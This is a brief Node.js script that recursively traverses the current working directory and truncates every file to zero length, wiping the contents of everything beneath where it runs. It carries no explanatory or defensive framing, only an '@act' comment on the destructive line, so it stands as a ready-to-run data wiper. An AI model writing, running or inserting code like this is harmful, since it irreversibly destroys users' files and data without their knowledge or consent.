import { readdir, truncate } from 'node:fs/promises';
import { join } from 'node:path';
const walk = async (at) => {
  for (const entry of await readdir(at, { withFileTypes: true })) {
    const path = join(at, entry.name);
    if (entry.isDirectory()) await walk(path);
    else await truncate(path, 0); //@act
  }
};
await walk(process.cwd());
